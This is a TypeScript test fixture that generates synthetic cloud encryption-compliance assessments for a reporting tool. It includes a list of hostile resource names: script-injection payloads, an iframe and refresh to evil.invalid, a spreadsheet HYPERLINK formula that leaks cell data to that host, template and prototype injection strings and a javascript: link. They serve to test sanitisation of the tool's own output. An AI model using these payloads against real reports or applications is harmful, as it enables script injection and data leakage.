import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
import { join } from 'node:path';
import { assessmentSchema, emptyCounts, rollUp } from '../../src/model/index.ts';
import type {
  Access,
  Assessment,
  Control,
  Finding,
  Leaf,
  Observation,
  Provider,
  ReconciliationRow,
  Scope,
  ScopeCoverage,
  Shortfall,
  Status,
  StatusCounts,
} from '../../src/model/index.ts';

/** Deterministic numbers (mulberry32): a fixture must be the same on every machine. */
function random(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** Names that a report must survive. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><script>alert(2)</script>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<iframe src="https://evil.invalid/"></iframe>',
  'invoice\u202excod.exe',
  'zero\u200bwidth\u0000null\u0007bell\u001b[31mred',
  '=HYPERLINK("https://evil.invalid/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'lone\ud800surrogate',
  '重要データ-バケット',
  'שלום-عالم',
  'ünïcödé-ß-Ω-Ж',
  '🔥bucket🔥',
  '{{constructor.constructor("return process")()}}',
  '{{{raw}}}',
  '@@DATA@@ {{@marker}}',
  '__proto__',
  'constructor',
  'a,b"c\nd',
  'x'.repeat(3000),
] as const;

export interface FixtureOptions {
  observations?: number;
  controls?: number;
  seed?: number;
  hostile?: boolean;
  /** Share of observations that fail; unknown and error come on top. */
  failing?: number;
  /** Adds a 1 MB string as a resource name. */
  huge?: boolean;
  whole?: boolean;
}

const SERVICES: readonly { provider: Provider; section: string; type: string; noun: string; collector: string }[] = [
  { provider: 'aws', section: 'AWS / Storage', type: 'AWS::S3::Bucket', noun: 'Buckets', collector: 'aws-config' },
  { provider: 'aws', section: 'AWS / Storage', type: 'AWS::EC2::Volume', noun: 'Volumes', collector: 'aws-config' },
  { provider: 'aws', section: 'AWS / Databases', type: 'AWS::RDS::DBInstance', noun: 'Database instances', collector: 'aws-config' },
  { provider: 'aws', section: 'AWS / Keys', type: 'AWS::KMS::Key', noun: 'Keys', collector: 'aws-config' },
  {
    provider: 'azure',
    section: 'Azure / Storage',
    type: 'microsoft.storage/storageaccounts',
    noun: 'Storage accounts',
    collector: 'azure-resource-graph',
  },
  {
    provider: 'azure',
    section: 'Azure / Databases',
    type: 'microsoft.sql/servers',
    noun: 'SQL servers',
    collector: 'azure-resource-graph',
  },
  {
    provider: 'gcp',
    section: 'Google Cloud / Storage',
    type: 'storage.googleapis.com/Bucket',
    noun: 'Buckets',
    collector: 'gcp-asset-inventory',
  },
  {
    provider: 'gcp',
    section: 'Google Cloud / Databases',
    type: 'sqladmin.googleapis.com/Instance',
    noun: 'Cloud SQL instances',
    collector: 'gcp-asset-inventory',
  },
];

const ASPECTS = [
  ['cmk', 'hold critical data under a customer managed key'],
  ['key-enabled', 'use a key that is enabled and not awaiting deletion'],
  ['key-rotation', 'use a key that is rotated within the period required'],
  ['key-owner', 'use a key of an account that the entity controls'],
  ['key-admins', 'use a key whose administrators cannot also use it'],
  ['key-policy', 'use a key that is not open to everyone'],
  ['in-transit', 'refuse connections without encryption in transit'],
  ['wide-access', 'do not let wide groups read critical data'],
] as const;

const SCOPES: readonly Scope[] = [
  { provider: 'aws', account: '111122223333', region: 'eu-west-1' },
  { provider: 'aws', account: '111122223333', region: 'us-east-1' },
  { provider: 'aws', account: '444455556666', region: 'eu-west-1' },
  { provider: 'azure', account: '0b1f6471-1bf0-4dda-aec3-cb9272f09590', region: '*' },
  { provider: 'azure', account: 'a7c32101-9f06-4e1c-8f6e-2d1d6fd1c301', region: '*' },
  { provider: 'gcp', account: 'northwind-prod', region: '*' },
  { provider: 'gcp', account: 'northwind-data', region: '*' },
];

function control(index: number): Control & { type: string; collector: string } {
  const service = SERVICES[index % SERVICES.length] ?? SERVICES[0]!;
  const [aspect, verb] = ASPECTS[Math.floor(index / SERVICES.length) % ASPECTS.length] ?? ASPECTS[0];
  const short = service.type
    .toLowerCase()
    .replace(/^aws::|^microsoft\.|\.googleapis\.com/g, '')
    .replace(/[^a-z0-9]+/g, '-');
  const round = Math.floor(index / (SERVICES.length * ASPECTS.length));
  const manual = aspect === 'key-admins' && service.provider === 'gcp';
  return {
    id: `${service.provider}-${short}-${aspect}${round === 0 ? '' : `-${round + 1}`}`,
    title: `${service.noun} ${verb}`,
    provider: service.provider,
    section: service.section,
    level: index % 3 === 0 ? 1 : 2,
    assessment: manual ? 'manual' : 'automated',
    profileApplicability: ['Level 2: critical data encrypted with customer managed keys'],
    prose: {
      description: `${service.noun} can be encrypted with a key that the provider owns, one that the provider manages in the account, or one that the customer manages.\n\nThis control asks for the last, and follows the reference from the resource to the key itself, in \`configuration.kmsKeyId\`.`,
      rationale:
        "A key under the customer's control can be disabled, rotated and audited by the customer, and in some services decides who can read the data at all.\n\nA provider's key protects against the loss of media, and against little else.",
      impact: {
        pros: 'Access to the data can be withdrawn as a whole, by one action, and every use of the key is logged.',
        cons: 'Each key costs about 1 USD a month, and requests are billed. A key that is deleted takes the data with it: deletion has to be guarded.',
      },
      defaultValue: 'New resources are encrypted with a key that the provider owns, unless a default has been set.',
      prerequisites:
        '- A key in the same region\n- A key policy that lets the service use it\n- The permission `kms:CreateGrant` for whoever creates the resource',
      audit: {
        console:
          '1. Open the service and choose the resource.\n2. Under "Encryption", read the key.\n3. Open the key and check that its manager is the customer and its state is enabled.',
        cli: 'aws s3api get-bucket-encryption --bucket "$BUCKET"\naws kms describe-key --key-id "$KEY" --query KeyMetadata.KeyManager',
      },
      remediation: {
        console:
          '1. Create a key with rotation on.\n2. Edit the encryption of the resource and choose that key.\n3. Copy what was written before under the new key.',
        cli: 'aws kms create-key --description "critical data"\naws kms enable-key-rotation --key-id "$KEY"\naws s3api put-bucket-encryption --bucket "$BUCKET" --server-side-encryption-configuration file://cmk.json',
      },
      backOut: 'Set the previous encryption again. Keep the key for as long as anything written under it exists.',
      references: [
        'https://docs.aws.amazon.com/kms/latest/developerguide/concepts.html',
        'https://learn.microsoft.com/azure/storage/common/customer-managed-keys-overview',
        'javascript:alert(1)',
      ],
    },
    mappings: { cis: ['AWS Foundations 7.0.0 2.1.1'], nist80053: ['SC-12', 'SC-28(1)'], iso27001: ['A.8.24'] },
    checks: [{ id: aspect, kind: manual ? 'manual' : 'condition', on: service.type, title: `${service.noun} ${verb}` }],
    source: `controls/${service.provider}/${short}.yaml:${12 + index}`,
    type: service.type,
    collector: service.collector,
  };
}

function hex(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

function uuid(text: string): string {
  const digest = hex(text);
  return `${digest.slice(0, 8)}-${digest.slice(8, 12)}-5${digest.slice(13, 16)}-a${digest.slice(17, 20)}-${digest.slice(20, 32)}`;
}

function uidOf(provider: Provider, type: string, scope: Scope, name: string): string {
  if (provider === 'aws') return `arn:aws:${type.split('::')[1]?.toLowerCase() ?? 'x'}:${scope.region}:${scope.account}:${name}`;
  if (provider === 'azure') return `/subscriptions/${scope.account}/resourcegroups/rg-data/providers/${type}/${name}`;
  return `//${type.split('/')[0] ?? ''}/projects/${scope.account}/resources/${name}`;
}

/**
 * Writes a run directory's `results/` with an assessment, its observations and access lines, all valid by the model's
 * schemas and consistent with one another. Returns the assessment.
 */
export function writeFixture(runDirectory: string, options: FixtureOptions = {}): Assessment {
  const total = options.observations ?? 2000;
  const next = random(options.seed ?? 7);
  const failing = options.failing ?? 0.16;
  const controls = Array.from({ length: options.controls ?? 60 }, (_, index) => control(index)).sort((a, b) => (a.id < b.id ? -1 : 1));
  const results = join(runDirectory, 'results');
  mkdirSync(results, { recursive: true });
  const file = openSync(join(results, 'observations.ndjson'), 'w');
  const findings: Finding[] = [];
  const reconciliation: ReconciliationRow[] = [];
  const resources = emptyCounts();
  let offset = 0;
  let serial = 0;

  for (const [index, { type, collector, ...definition }] of controls.entries()) {
    const share = index === controls.length - 1 ? total - serial : Math.round((total / controls.length) * (0.3 + 1.4 * next()));
    const scopes = SCOPES.filter((scope) => scope.provider === definition.provider);
    const denied = options.whole !== true && index % 17 === 5;
    const clean = index % 4 === 1;
    const counts = emptyCounts();
    const start = offset;
    let waived = 0;
    let gaps = 0;
    const perScope = new Map<Scope, StatusCounts>(scopes.map((scope) => [scope, emptyCounts()]));
    const waivedIn = new Map<Scope, number>();
    let count = 0;
    const write = (observation: Observation): void => {
      const line = Buffer.from(`${JSON.stringify(observation)}\n`);
      writeSync(file, line);
      offset += line.length;
      count += 1;
    };
    const amount = definition.assessment === 'manual' ? 0 : Math.max(0, Math.min(share, total - serial));
    for (let each = 0; each < amount; each += 1) {
      serial += 1;
      const scope = scopes[Math.floor(next() * scopes.length)] ?? scopes[0]!;
      const roll = next();
      const hostile = options.hostile === true && serial % 11 === 3 ? HOSTILE[Math.floor(serial / 11) % HOSTILE.length] : undefined;
      const huge = options.huge === true && serial === 1;
      const status: Status =
        !clean && (huge || hostile !== undefined)
          ? 'fail'
          : clean
            ? roll < 0.85
              ? 'pass'
              : 'notapplicable'
            : roll < failing
              ? 'fail'
              : roll < failing + 0.03
                ? 'unknown'
                : roll < failing + 0.035
                  ? 'error'
                  : roll < 0.9
                    ? 'pass'
                    : 'notapplicable';
      const plain = `${['ledger', 'payments', 'claims', 'hr', 'archive'][Math.floor(next() * 5)] ?? 'x'}-${['prod', 'eu', 'core', 'stage'][Math.floor(next() * 4)] ?? 'y'}-${(serial * 7919).toString(16).padStart(6, '0')}`;
      const name = huge ? 'H'.repeat(1_000_000) : (hostile ?? plain);
      const uid = uidOf(definition.provider, type, scope, name);
      const page = `evidence/${collector}/${scope.account}${scope.region === '*' ? '' : `.${scope.region}`}/${type.replace(/[^A-Za-z0-9]+/g, '.')}/page-${String(1 + Math.floor(serial / 100)).padStart(6, '0')}.json`;
      const waive = status === 'fail' && serial % 13 === 0;
      if (waive) {
        waived += 1;
        waivedIn.set(scope, (waivedIn.get(scope) ?? 0) + 1);
      }
      write({
        id: uuid(`${definition.id}/${serial}`),
        control: definition.id,
        check: definition.checks[0]?.id ?? '',
        subject: {
          kind: 'resource',
          provider: definition.provider,
          type,
          uid,
          name,
          account: scope.account,
          location: scope.region === '*' ? 'westeurope' : scope.region,
          scope,
          capturedAt: '2026-09-30T21:4' + String(serial % 10) + ':11Z',
        },
        status,
        reason: reasonOf(status, definition.provider),
        leaves: leavesOf(status, definition.provider, serial),
        citations: [
          {
            role: 'subject',
            uid,
            file: page,
            pointer: definition.provider === 'aws' ? `/Results/${serial % 100}` : `/data/${serial % 100}`,
            encoding: definition.provider === 'aws' ? 'json-string' : 'json',
          },
          ...(status === 'unknown'
            ? []
            : [
                {
                  role: '$key',
                  uid: `arn:aws:kms:eu-west-1:111122223333:key/${uuid(`key${serial % 9}`)}`,
                  file: page.replace(/\/[^/]+\/page/, '/AWS.KMS.Key/page'),
                  pointer: `/Results/${serial % 9}`,
                  encoding: 'json-string' as const,
                },
              ]),
        ],
        method: 'TEST',
        ...(waive ? { waiver: 'EX-2026-014' } : {}),
      });
      counts[status] += 1;
      resources[status] += 1;
      const scoped = perScope.get(scope);
      if (scoped) scoped[status] += 1;
    }
    if (definition.assessment === 'manual') {
      const status: Status = index % 2 === 0 ? 'notchecked' : 'pass';
      const scope = scopes[0]!;
      write({
        id: uuid(`${definition.id}/question`),
        control: definition.id,
        check: definition.checks[0]?.id ?? '',
        status,
        method: 'INTERVIEW',
        subject: {
          kind: 'question',
          provider: definition.provider,
          type: 'question',
          uid: `question:${definition.id}`,
          name: definition.title,
          account: '',
          location: '',
          scope,
          capturedAt: null,
        },
        reason: status === 'pass' ? 'Answered: satisfied, by the head of platform security.' : 'No answer has been given.',
        leaves: [],
        citations: [],
      });
      counts[status] += 1;
      resources[status] += 1;
    }
    if (denied) {
      gaps = 1;
      const scope = scopes[scopes.length - 1]!;
      write({
        id: uuid(`${definition.id}/gap`),
        control: definition.id,
        check: definition.checks[0]?.id ?? '',
        status: 'unknown',
        method: 'TEST',
        subject: {
          kind: 'scope',
          provider: definition.provider,
          type,
          uid: `${scope.provider}/${scope.account}/${scope.region}`,
          name: `${scope.provider}/${scope.account}/${scope.region}`,
          account: scope.account,
          location: scope.region,
          scope,
          capturedAt: null,
        },
        reason: `The evidence of ${type} in ${scope.account} is not whole: access denied (AccessDeniedException).`,
        leaves: [],
        citations: [],
      });
    }
    if (definition.assessment === 'automated') {
      for (const scope of scopes) {
        const scoped = perScope.get(scope) ?? emptyCounts();
        const excluded = { 'not critical': Math.floor(next() * 20) };
        const sum = scoped.pass + scoped.fail + scoped.unknown + scoped.error + scoped.notapplicable + excluded['not critical'];
        const bad = denied && scope === scopes[scopes.length - 1];
        reconciliation.push({
          control: definition.id,
          check: definition.checks[0]?.id ?? '',
          scope,
          type,
          count:
            bad && index % 2 === 0
              ? null
              : {
                  count: sum + (bad ? 7 : 0),
                  source:
                    scope.provider === 'aws'
                      ? 'GetDiscoveredResourceCounts'
                      : scope.provider === 'azure'
                        ? 'Resource Graph summarize count()'
                        : 'SearchAllResources',
                },
          held: sum,
          pass: scoped.pass,
          fail: scoped.fail,
          unknown: scoped.unknown,
          error: scoped.error,
          notapplicable: scoped.notapplicable,
          excluded,
          waived: waivedIn.get(scope) ?? 0,
          balanced: !bad,
          reasons: bad
            ? [{ code: 'access-denied', message: `User is not authorised to list ${type}: AccessDeniedException on page 3.` }]
            : [],
        });
      }
    }
    const statusesPresent = (Object.keys(counts) as Status[]).filter((status) => counts[status] > 0);
    const rolled = rollUp([...statusesPresent, ...(gaps > 0 ? ['unknown' as const] : [])]) ?? 'notapplicable';
    findings.push({
      control: definition,
      status: rolled,
      counts,
      waived,
      excluded: 11,
      gaps,
      reasons:
        gaps > 0 ? [{ code: 'access-denied', message: `The population of ${type} in one scope could not be proved: access denied.` }] : [],
      observations: { offset: start, length: offset - start, count },
    });
  }
  closeSync(file);

  const tally = (list: readonly Finding[]): { counts: StatusCounts; score: number | null } => {
    const counts = emptyCounts();
    for (const finding of list) counts[finding.status] += 1;
    return { counts, score: counts.pass + counts.fail === 0 ? null : counts.pass / (counts.pass + counts.fail) };
  };
  const access = accessLines(options.hostile === true);
  writeFileSync(join(results, 'access.ndjson'), access.map((line) => `${JSON.stringify(line)}\n`).join(''));
  const sections = [...new Set(findings.map((finding) => finding.control.section))].sort();
  const assessment: Assessment = {
    version: 1,
    runId: '2026-Q3-v1',
    tool: { name: 'exhibit', version: '0.1.0' },
    catalogue: {
      name: 'Exhibit catalogue',
      version: '0.1.0',
      sha256: hex('catalogue'),
      files: ['aws/s3', 'aws/kms', 'azure/storage', 'gcp/storage'].map((name) => ({ file: `controls/${name}.yaml`, sha256: hex(name) })),
    },
    engagement: {
      id: 'northwind-2026-q3',
      title: 'Customer managed keys for critical data',
      entity: 'Northwind Traders Ltd',
      period: { from: '2026-07-01', to: '2026-09-30' },
      preparedFor: 'External auditor, FY26',
      classification: 'Confidential',
    },
    profile: { level: 2, title: 'Level 2' },
    parameters: { 'rotation.max-days': 365, 'freshness.aws-config.hours': 24, 'trusted.accounts': ['111122223333', '444455556666'] },
    critical: {
      tags: { 'data-class': ['critical', 'restricted'] },
      names: ['*-prod-*'],
      notCriticalTags: { 'data-class': ['public'] },
      unclassified: 'critical',
    },
    asOf: '2026-09-30T22:00:00Z',
    collected: { startedAt: '2026-09-30T22:00:14Z', endedAt: '2026-09-30T22:03:51Z' },
    summary: {
      ...tally(findings),
      sections: sections.map((section) => {
        const list = findings.filter((finding) => finding.control.section === section);
        return { section, provider: list[0]!.control.provider, ...tally(list) };
      }),
      levels: [1, 2].map((level) => ({ level, ...tally(findings.filter((finding) => finding.control.level === level)) })),
      resources,
    },
    findings,
    scopes: scopesCovered(options.whole === true),
    reconciliation,
    waivers: [
      {
        id: 'EX-2026-014',
        control: 'aws-*',
        resources: ['arn:aws:s3:*:archive-*'],
        owner: 'Dana Fields, Storage',
        approver: 'Ruth Okafor, CISO',
        justification:
          'Archive buckets move to the new key by the end of the year; read access is limited to two break-glass roles meanwhile.',
        approvedOn: '2026-06-12',
        expires: '2026-12-31',
        expired: false,
        used: findings.reduce((sum, finding) => sum + finding.waived, 0),
      },
      {
        id: 'EX-2025-090',
        control: 'gcp-storage-bucket-cmk',
        resources: ['*'],
        owner: 'Lee Park',
        approver: 'Ruth Okafor, CISO',
        justification: 'Pending vendor support.',
        approvedOn: '2025-03-01',
        expires: '2026-03-01',
        expired: true,
        used: 0,
      },
    ],
    answers: [
      {
        control: 'gcp-storage-bucket-key-admins',
        answer: 'satisfied',
        statement: 'Key administration and key use are held by different groups, reviewed each quarter. The last review is attached.',
        respondent: 'Ines Duarte',
        role: 'Head of platform security',
        date: '2026-09-18',
        validUntil: '2026-12-31',
        attachments: ['attachments/review-2026-q3.pdf'],
      },
    ],
    queries: queriesMade(options.whole === true),
    access: {
      stores: access.length,
      keyBoundary: access.filter((line) => line.world === 'key-boundary').length,
      dataRoles: access.filter((line) => line.world === 'data-roles').length,
      wide: access.filter((line) => line.principals.some((principal) => principal.wide)).length,
      incomplete: access.filter((line) => !line.complete).length,
    },
    shortfalls: options.whole === true ? [] : shortfallsOf(SCOPES),
    redactions: 12,
    evidenceDigest: hex('evidence'),
    evidenceComplete: options.whole === true,
  };
  assessmentSchema.parse(assessment);
  writeFileSync(join(results, 'assessment.json'), JSON.stringify(assessment, null, 1));
  return assessment;
}

/** A type that only lookups need, in every account; one that is judged; one that nobody needs. */
function shortfallsOf(scopes: readonly Scope[]): Shortfall[] {
  const [first] = scopes as [Scope];
  const base = { scope: first, judgedBy: [], lookedUpBy: [] };
  return [
    ...scopes.map((scope): Shortfall => ({
      scope,
      type: 'AWS::IAM::User',
      status: 'not-recorded',
      reasons: [{ code: 'type-not-recorded', message: `the configuration recorder does not record AWS::IAM::User in ${scope.account}` }],
      judgedBy: [],
      lookedUpBy: ['aws-s3-readers'],
    })),
    {
      ...base,
      type: 'AWS::KMS::Key',
      status: null,
      reasons: [{ code: 'held-mismatch', message: 'the ledger holds 3 AWS::KMS::Key; 2 can be read back' }],
      judgedBy: ['aws-kms-rotation'],
    },
    { ...base, type: 'conformance-packs', status: 'failed', reasons: [{ code: 'timeout', message: 'no answer within 30000 ms' }] },
  ];
}

function reasonOf(status: Status, provider: Provider): string {
  if (status === 'fail')
    return provider === 'aws'
      ? 'The data is encrypted with the AWS managed key alias/aws/s3, not with a customer managed key.'
      : "The data is encrypted with the provider's key: no customer managed key is set.";
  if (status === 'unknown')
    return 'The key it names lies in account 999900001111, which is not part of the evidence: its state cannot be known.';
  if (status === 'error') return 'The provider returned a policy document that is not valid JSON: the check could not be carried out.';
  if (status === 'notapplicable') return 'It holds no data at rest.';
  return 'The data is encrypted with a customer managed key that is enabled and rotated.';
}

function leavesOf(status: Status, provider: Provider, serial: number): Leaf[] {
  const outcome = status === 'pass' ? 'true' : status === 'fail' ? 'false' : 'unknown';
  if (provider === 'azure')
    return [
      {
        id: 'cmk',
        path: 'properties.encryption.keySource',
        operator: 'equals',
        expected: 'Microsoft.Keyvault',
        observed: status === 'pass' ? 'Microsoft.Keyvault' : 'Microsoft.Storage',
        outcome,
        source: 0,
      },
    ];
  return [
    {
      id: 'sse-kms',
      path: 'supplementaryConfiguration.ServerSideEncryptionConfiguration.rules[0].applyServerSideEncryptionByDefault.sseAlgorithm',
      operator: 'in',
      expected: ['aws:kms', 'aws:kms:dsse'],
      observed: 'aws:kms',
      outcome: 'true',
      source: 0,
    },
    status === 'unknown'
      ? {
          id: 'key-customer',
          path: '$key.configuration.keyManager',
          operator: 'equals',
          expected: 'CUSTOMER',
          outcome: 'unknown',
          because: 'lookup-incomplete',
        }
      : {
          id: 'key-customer',
          path: '$key.configuration.keyManager',
          operator: 'equals',
          expected: 'CUSTOMER',
          observed: status === 'pass' ? 'CUSTOMER' : 'AWS',
          outcome,
          source: 1,
        },
    ...(serial % 5 === 0
      ? [
          {
            id: 'rotation',
            path: '$key.rotation.days',
            operator: 'atMost',
            expected: 365,
            observed: 90 + (serial % 300),
            outcome: 'true' as const,
            source: 1,
          },
        ]
      : []),
  ];
}

function scopesCovered(whole: boolean): ScopeCoverage[] {
  const covered: ScopeCoverage[] = SCOPES.map((scope) => ({
    ...scope,
    collector: scope.provider === 'aws' ? 'aws-config' : scope.provider === 'azure' ? 'azure-resource-graph' : 'gcp-asset-inventory',
    name: scope.provider === 'aws' ? 'payments-prod' : null,
    knownFrom: [
      'configured',
      scope.provider === 'aws' ? 'aggregator sources' : scope.provider === 'azure' ? 'resourcecontainers' : 'Resource Manager assets',
    ],
    status: 'complete',
    identity:
      scope.provider === 'aws' ? `arn:aws:sts::${scope.account}:assumed-role/exhibit-reader/2026-Q3` : 'exhibit-reader@northwind.example',
    reasons: [],
  }));
  if (whole) return covered;
  covered.push({
    provider: 'aws',
    account: '777788889999',
    region: 'eu-west-1',
    collector: 'aws-config',
    name: 'acquired-co',
    knownFrom: ['aggregator sources'],
    status: 'denied',
    identity: null,
    reasons: [{ code: 'access-denied', message: 'AssumeRole of exhibit-reader in 777788889999 was refused: AccessDenied.' }],
  });
  covered.push({
    provider: 'azure',
    account: 'dead0000-0000-4000-8000-00000000beef',
    region: '*',
    collector: 'azure-resource-graph',
    name: 'sandbox',
    knownFrom: ['resourcecontainers'],
    status: 'excluded',
    identity: null,
    reasons: [{ code: 'not-selected', message: 'Not among the subscriptions that exhibit.yaml selects.' }],
  });
  return covered;
}

function queriesMade(whole: boolean): Assessment['queries'] {
  return SCOPES.flatMap((scope) =>
    SERVICES.filter((service) => service.provider === scope.provider).map((service, index) => {
      const denied = !whole && scope.account === '444455556666' && index === 2;
      const place = `${scope.account}${scope.region === '*' ? '' : `.${scope.region}`}`;
      const directory = `evidence/${service.collector}/${place}/${service.type.replace(/[^A-Za-z0-9]+/g, '.')}`;
      return {
        directory,
        provider: scope.provider,
        collector: service.collector,
        scope: place,
        operation:
          scope.provider === 'aws'
            ? 'SelectResourceConfig'
            : scope.provider === 'azure'
              ? 'Microsoft.ResourceGraph/resources'
              : 'ListAssets',
        text:
          scope.provider === 'gcp'
            ? null
            : scope.provider === 'aws'
              ? `SELECT *, configuration, supplementaryConfiguration, tags WHERE resourceType = '${service.type}'`
              : `resources | where type =~ '${service.type}' | order by id asc`,
        identity: 'arn:aws:sts::111122223333:assumed-role/exhibit-reader/2026-Q3',
        endpoint: 'https://config.eu-west-1.amazonaws.com',
        status: denied ? 'denied' : 'complete',
        pages: denied ? 2 : 4,
        items: denied ? 200 : 351,
        bytes: 812_345 + index,
        startedAt: '2026-09-30T22:00:20Z',
        endedAt: '2026-09-30T22:00:41Z',
        sha256: hex(directory),
        reasons: denied
          ? [
              {
                code: 'access-denied',
                message: 'AccessDeniedException: not authorised to perform config:SelectResourceConfig (page 3 of an unknown number).',
              },
            ]
          : [],
      };
    }),
  );
}

function accessLines(hostile: boolean): Access[] {
  return Array.from({ length: 24 }, (_, index): Access => {
    const scope = SCOPES[index % SCOPES.length] ?? SCOPES[0]!;
    const aws = scope.provider === 'aws';
    const name = hostile && index === 3 ? HOSTILE[0] : `ledger-${index}`;
    const type = aws
      ? 'AWS::S3::Bucket'
      : scope.provider === 'azure'
        ? 'microsoft.storage/storageaccounts'
        : 'storage.googleapis.com/Bucket';
    return {
      subject: {
        kind: 'resource',
        provider: scope.provider,
        type,
        uid: uidOf(scope.provider, type, scope, name),
        name,
        account: scope.account,
        location: scope.region === '*' ? 'westeurope' : scope.region,
        scope,
        capturedAt: null,
      },
      world: aws ? 'key-boundary' : 'data-roles',
      principals: [
        {
          principal: aws ? `arn:aws:iam::${scope.account}:role/payments-app` : 'group:data-readers@northwind.example',
          kind: aws ? 'role' : 'group',
          via: aws ? 'key policy statement 1 (kms:Decrypt)' : 'role Storage Blob Data Reader',
          ...(aws ? {} : { inheritedFrom: 'resource group rg-data' }),
          conditional: index % 3 === 0,
          wide: false,
          citation: {
            file: 'evidence/aws-config/111122223333.eu-west-1/AWS.KMS.Key/page-000001.json',
            pointer: `/Results/${index}`,
            encoding: 'json-string',
          },
        },
        ...(index % 6 === 2
          ? [
              {
                principal: aws ? '*' : 'allAuthenticatedUsers',
                kind: 'everyone',
                via: aws ? 'key policy statement 0' : 'role Storage Object Viewer',
                conditional: false,
                wide: true,
              },
            ]
          : []),
      ],
      unsettled:
        index % 4 === 1
          ? ['Members of the groups named are not part of the evidence.', 'Grants on the key are not recorded by AWS Config.']
          : [],
      complete: index % 4 !== 1,
    };
  });
}
